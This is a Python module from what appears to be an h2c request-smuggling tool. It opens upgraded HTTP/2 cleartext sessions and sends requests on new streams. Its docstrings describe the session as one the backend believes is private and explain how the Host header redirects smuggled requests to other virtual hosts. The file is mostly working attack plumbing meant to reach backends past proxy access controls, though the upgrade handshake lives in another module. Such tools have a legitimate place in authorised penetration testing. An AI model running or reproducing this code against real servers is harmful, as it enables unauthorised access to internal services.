"""
Smuggling connections: one upgraded HTTP/2 session over one socket.

A :class:`Connection` is what :func:`open_connection` always returns. It is
either a live :class:`SmugglingConnection` or a :class:`FailedConnection`
holding the dial/handshake error that prevented it. Both expose ``do`` and
``close`` so callers never special-case "no connection": the failed variant
simply raises its captured error from ``do`` without touching the network.

Each connection belongs to exactly one thread for its whole life. Requests
are issued one at a time; every ``do`` opens a new stream and blocks until
that stream has ended.
"""

from __future__ import annotations

import abc
import logging
import socket
import time
from dataclasses import dataclass, field
from typing import Container, Dict, List, Optional, Tuple, Union

import h2.connection  # type: ignore
import h2.events  # type: ignore
import h2.exceptions  # type: ignore
import httpx  # type: ignore

from h2csmuggler.config import ConnectionConfig
from h2csmuggler.errors import (
    BodyReadError,
    DialError,
    ErrorKind,
    HandshakeError,
    RequestError,
    SmuggleError,
    UnexpectedStatusCodeError,
)
from h2csmuggler.handshake import READ_SIZE, handshake
from h2csmuggler.log import fields, trace
from h2csmuggler.target import Target
from h2csmuggler.transport import dial

logger = logging.getLogger(__name__)

# Connection-specific headers are illegal in HTTP/2 and would be rejected by
# h2 before reaching the wire.
HOP_BY_HOP: set[str] = {
    "connection",
    "keep-alive",
    "proxy-connection",
    "proxy-authenticate",
    "proxy-authorization",
    "te",
    "trailers",
    "transfer-encoding",
    "upgrade",
}


# ----------------------------------------------------------------------------
# Requests and results
# ----------------------------------------------------------------------------

@dataclass
class Request:
    """One request to issue over a connection or directly."""

    target: Target
    method: str = "GET"
    headers: httpx.Headers = field(default_factory=httpx.Headers)
    body: bytes = b""
    expected_status: Optional[Container[int]] = None

    @classmethod
    def build(cls, url: str, method: str = "GET") -> "Request":
        return cls(target=Target.parse(url), method=method)

    def h2_headers(self) -> List[Tuple[str, str]]:
        """Pseudo headers first, then lowercased regular headers.

        A ``Host`` header replaces the ``:authority`` derived from the URL,
        which is how a smuggled request is pointed at another virtual host.
        """
        authority = self.target.authority
        regular: List[Tuple[str, str]] = []
        for name, value in self.headers.multi_items():
            lname = name.lower()
            if lname == "host":
                authority = value
            elif lname == "te":
                # the only TE value HTTP/2 permits
                if value.strip().lower() == "trailers":
                    regular.append((lname, "trailers"))
            elif lname not in HOP_BY_HOP:
                regular.append((lname, value))
        if self.body and "content-length" not in self.headers:
            regular.append(("content-length", str(len(self.body))))
        return [
            (":method", self.method),
            (":authority", authority),
            (":scheme", self.target.scheme),
            (":path", self.target.request_target),
        ] + regular


@dataclass
class ResponseRecord:
    """The outcome of one request attempt.

    Exactly one of ``status`` (a valid response) and ``error`` is set once the
    attempt has completed.
    """

    target: str
    status: Optional[int] = None
    headers: httpx.Headers = field(default_factory=httpx.Headers)
    body: bytes = b""
    error: Optional[SmuggleError] = None
    source: str = "h2c"

    @classmethod
    def failure(cls, target: str, error: SmuggleError, source: str = "h2c") -> "ResponseRecord":
        return cls(target=target, error=error, source=source)

    @property
    def completed(self) -> bool:
        return self.status is not None or self.error is not None

    @property
    def ok(self) -> bool:
        return self.error is None and self.status is not None

    def log(self) -> None:
        trace(logger, "received %s", fields(target=self.target, status=self.status, error=str(self.error)))
        if self.error is not None:
            if self.error.kind is ErrorKind.STATUS:
                logger.error("unexpected status code %s",
                             fields(status=self.error.code, target=self.target, source=self.source))
            else:
                logger.error("failed %s", fields(target=self.target, source=self.source, error=str(self.error)))
            return
        logger.info("success %s", fields(status=self.status, body=len(self.body),
                                         target=self.target, source=self.source))
        logger.debug("verbose %s", fields(status=self.status, headers=list(self.headers.multi_items()),
                                          body=self.body.decode("utf-8", "replace"), target=self.target))


# ----------------------------------------------------------------------------
# Connections
# ----------------------------------------------------------------------------

class Connection(abc.ABC):
    """Common contract of live and failed connections."""

    target: str
    error: Optional[SmuggleError] = None

    @abc.abstractmethod
    def do(self, request: Request) -> ResponseRecord:
        """Issue ``request`` and return its record, raising a :class:`SmuggleError` on failure."""

    @abc.abstractmethod
    def close(self) -> None:
        """Release the connection. Safe to call more than once."""

    def __enter__(self) -> "Connection":
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


class FailedConnection(Connection):
    """A connection that never came up; every request fails fast."""

    def __init__(self, target: str, error: SmuggleError) -> None:
        self.target = target
        self.error = error

    def do(self, request: Request) -> ResponseRecord:
        raise self.error

    def close(self) -> None:
        pass

    def __repr__(self) -> str:
        return f"FailedConnection({self.target!r}, {self.error})"


class _Stream:
    __slots__ = ("headers", "body", "ended", "reset")

    def __init__(self) -> None:
        self.headers: Optional[List[Tuple[bytes, bytes]]] = None
        self.body = bytearray()
        self.ended = False
        self.reset: Optional[int] = None


class SmugglingConnection(Connection):
    """An upgraded HTTP/2 session the backend believes is private."""

    def __init__(self, target: Target, sock: socket.socket,
                 session: h2.connection.H2Connection, upgrade_status: int) -> None:
        self.target = target.url
        self.base = target
        self.upgrade_status = upgrade_status
        self._sock = sock
        self._h2 = session
        self._streams: Dict[int, _Stream] = {}
        self._closed = False

    @classmethod
    def establish(cls, target: Target, config: ConnectionConfig) -> "SmugglingConnection":
        """Make a single dial + handshake attempt within ``config.timeout``.

        Raises:
            DialError: if the stream could not be opened.
            HandshakeError: if the peer did not come up as HTTP/2.
        """
        deadline = time.monotonic() + config.timeout
        sock = dial(target, config, deadline)
        try:
            session, status = handshake(sock, target, deadline, config.method)
            sock.settimeout(config.request_timeout)
        except SmuggleError:
            sock.close()
            raise
        except Exception as e:
            sock.close()
            raise HandshakeError(f"failed to create http2 conn: {e!r}", target.url) from e
        logger.debug("upgraded %s", fields(target=target.url, status=status))
        return cls(target, sock, session, status)

    def do(self, request: Request) -> ResponseRecord:
        """Issue ``request`` on a new stream and wait for the whole response.

        Raises:
            RequestError: the request could not be sent or was refused before
                any response headers arrived, or the response had no valid
                ``:status``.
            BodyReadError: the stream failed after the response headers.
            UnexpectedStatusCodeError: ``request.expected_status`` is set and
                does not contain the received status.
        """
        url = request.target.url
        if self.error is not None:
            raise self.error
        if self._closed:
            raise RequestError("connection closed", url)

        try:
            stream_id = self._h2.get_next_available_stream_id()
            self._h2.send_headers(stream_id, request.h2_headers(), end_stream=not request.body)
            self._send_body(stream_id, request.body)
        except h2.exceptions.ProtocolError as e:
            raise RequestError(f"request creation: {e}", url) from e

        stream = self._streams[stream_id] = _Stream()
        try:
            try:
                self._flush()
                while stream.headers is None and not stream.ended:
                    self._pump()
            except (OSError, h2.exceptions.ProtocolError) as e:
                raise self._broken(RequestError(f"connection do: {e}", url)) from e
            if stream.headers is None:
                raise RequestError(f"stream reset before response (error code {stream.reset})", url)

            try:
                while not stream.ended:
                    self._pump()
            except (OSError, h2.exceptions.ProtocolError) as e:
                raise self._broken(BodyReadError(f"body read: {e}", url)) from e
            if stream.reset is not None:
                raise BodyReadError(f"stream reset during body (error code {stream.reset})", url)
        finally:
            self._streams.pop(stream_id, None)

        status, headers = _split_headers(stream.headers, url)
        if request.expected_status is not None and status not in request.expected_status:
            raise UnexpectedStatusCodeError(status, url)
        return ResponseRecord(target=url, status=status, headers=headers, body=bytes(stream.body))

    def close(self) -> None:
        if self._closed:
            return
        self._closed = True
        try:
            self._h2.close_connection()
            self._sock.sendall(self._h2.data_to_send())
        except (OSError, h2.exceptions.ProtocolError) as e:
            trace(logger, "goaway not sent %s", fields(target=self.target, error=str(e)))
        finally:
            self._sock.close()

    def __repr__(self) -> str:
        return f"SmugglingConnection({self.target!r}, upgrade_status={self.upgrade_status})"

    def _send_body(self, stream_id: int, body: bytes) -> None:
        if not body:
            return
        size = self._h2.max_outbound_frame_size
        for offset in range(0, len(body), size):
            chunk = body[offset:offset + size]
            self._h2.send_data(stream_id, chunk, end_stream=offset + size >= len(body))

    def _flush(self) -> None:
        data = self._h2.data_to_send()
        if data:
            self._sock.sendall(data)

    def _pump(self) -> None:
        data = self._sock.recv(READ_SIZE)
        if not data:
            raise ConnectionError("connection closed by peer")
        for event in self._h2.receive_data(data):
            self._dispatch(event)
        self._flush()

    def _dispatch(self, event: h2.events.Event) -> None:
        if isinstance(event, h2.events.DataReceived):
            self._h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.ConnectionTerminated):
            logger.debug("goaway %s", fields(target=self.target, code=event.error_code,
                                              last_stream=event.last_stream_id))
            return

        stream = self._streams.get(getattr(event, "stream_id", None))
        if stream is None:
            return
        if isinstance(event, h2.events.ResponseReceived):
            stream.headers = event.headers
        elif isinstance(event, h2.events.DataReceived):
            stream.body.extend(event.data)
        elif isinstance(event, h2.events.StreamEnded):
            stream.ended = True
        elif isinstance(event, h2.events.StreamReset):
            stream.reset = event.error_code
            stream.ended = True

    def _broken(self, error: SmuggleError) -> SmuggleError:
        # the socket or framing is gone; later requests fail with this error
        self.error = error
        return error


def _split_headers(raw: List[Tuple[bytes, bytes]], url: str) -> Tuple[int, httpx.Headers]:
    """Separate ``:status`` from the regular response headers.

    Raises:
        RequestError: if ``:status`` is missing or not a three digit code.
    """
    status: Optional[int] = None
    regular = []
    for name, value in raw:
        if name == b":status":
            if len(value) != 3 or not value.isdigit() or value.startswith(b"0"):
                raise RequestError(f"invalid :status {value!r}", url)
            status = int(value)
        elif not name.startswith(b":"):
            regular.append((name, value))
    if status is None:
        raise RequestError("response without :status", url)
    return status, httpx.Headers(regular)


def open_connection(target: Union[str, Target], config: Optional[ConnectionConfig] = None) -> Connection:
    """Dial and upgrade ``target``, retrying connection failures.

    Up to ``1 + config.max_retries`` attempts are made, each with a fresh
    dial and its own deadline. The result is never ``None`` and this never
    raises: when every attempt fails a :class:`FailedConnection` carrying the
    last error is returned.
    """
    config = config or ConnectionConfig()
    raw = target if isinstance(target, str) else target.url
    try:
        parsed = target if isinstance(target, Target) else Target.parse(target)
    except ValueError as e:
        return FailedConnection(raw, RequestError(f"invalid target: {e}", raw))

    attempt = 0
    while True:
        attempt += 1
        try:
            return SmugglingConnection.establish(parsed, config)
        except SmuggleError as e:
            logger.debug("connect attempt failed %s", fields(attempt=attempt, target=raw, error=str(e)))
            if not e.retryable or attempt > config.max_retries:
                return FailedConnection(raw, e)
        except Exception as e:
            # not a network failure, so not retried
            logger.debug("connect attempt crashed %s", fields(attempt=attempt, target=raw, error=repr(e)))
            return FailedConnection(raw, DialError(f"failed to connect: {e!r}", raw))
